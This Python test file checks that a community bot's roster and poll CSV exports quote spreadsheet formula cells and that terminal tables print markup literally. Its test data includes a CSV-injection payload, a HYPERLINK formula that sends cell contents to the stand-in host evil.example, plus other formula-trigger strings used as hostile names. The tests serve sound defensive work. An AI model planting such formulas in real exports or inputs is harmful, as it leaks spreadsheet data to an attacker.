"""What staff and residents wrote stays text in every export and terminal table: CSV cells
that look like formulas are quoted, rich markup is shown as written."""

from __future__ import annotations

import asyncio
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import yaml
from click.testing import CliRunner

from bot.cli import main
from bot.runtime import open_runtime
from bot.staff.csv_export import csv_text
from tests.conftest import make_settings
from tests.databases import database_for

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def test_formula_cells_are_quoted_and_numbers_stay_numbers() -> None:
    text = csv_text([[FORMULA, "+81", "-1", "@SUM(A1)", "\tx", "\rx", "a=b", -3, 2.5, None]])
    assert text == (
        '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"'
        ",'+81,'-1,'@SUM(A1),'\tx,\"'\nx\",a=b,-3,2.5,\n"
    )


def test_roster_and_poll_exports_and_tables_keep_hostile_names_as_text(
    tmp_path: Path, content_dir: Path
) -> None:
    settings = make_settings(tmp_path, content_dir)
    env = {"CHIIKI_DB": database_for(tmp_path), "CHIIKI_CONTENT_DIR": str(content_dir)}
    day = date.today() + timedelta(days=3)
    watch_file = tmp_path / "watch.yaml"
    watch_file.write_text(
        yaml.safe_dump(
            {
                "routes": [{"id": "east", "name": "[bold]東ルート", "meeting_point": "公民館"}],
                "shifts": [
                    {"route": "east", "date": str(day), "time": "07:20-08:10", "capacity": 2}
                ],
            },
            allow_unicode=True,
        ),
        "utf-8",
    )
    poll_file = tmp_path / "poll.yaml"
    poll_file.write_text(
        yaml.safe_dump(
            {
                "question": "[/x] 公園の名前",
                "choices": [FORMULA, "+1", "-1", "@SUM(A1)"],
                "closes_at": "2030-01-01T10:00:00+09:00",
            },
            allow_unicode=True,
        ),
        "utf-8",
    )
    runner = CliRunner()
    loaded = runner.invoke(main, ["watch", "load", str(watch_file)], env=env)
    assert loaded.exit_code == 0, loaded.output
    assert runner.invoke(main, ["poll", "create", str(poll_file)], env=env).exit_code == 0

    async def volunteers() -> None:
        async with open_runtime(settings) as runtime:
            now = datetime.now(UTC)
            residents = runtime.services.residents
            for user, name in (("b", FORMULA), ("a", "[/x]"), ("c", "[bold]")):
                row = await residents.get_or_create("web", user, "ja", now)
                await residents.give_consent(row.id, name, now)
                await runtime.services.watch.sign_up(1, row.id, now)

    asyncio.run(volunteers())

    table = runner.invoke(main, ["watch", "roster"], env={**env, "COLUMNS": "300"})
    assert table.exit_code == 0, table.output
    assert "[/x]" in table.output and "[bold]" in table.output  # shown, not interpreted
    roster_csv = runner.invoke(main, ["watch", "roster", "--csv"], env=env)
    assert roster_csv.exit_code == 0, roster_csv.output
    assert "'=HYPERLINK" in roster_csv.output and ",=HYPERLINK" not in roster_csv.output
    polls = runner.invoke(main, ["poll", "list"], env={**env, "COLUMNS": "300"})
    assert polls.exit_code == 0 and "[/x] 公園の名前" in polls.output, polls.output
    results = runner.invoke(main, ["poll", "results", "1", "--csv"], env=env).output
    # Each choice has three rows (all, online, paper) after the three of the ballots.
    labels = [line.split(",", 2)[1] for line in results.splitlines()[4::3]]
    assert labels[1:] == ["'+1", "'-1", "'@SUM(A1)"] and results.count("'=HYPERLINK") == 3
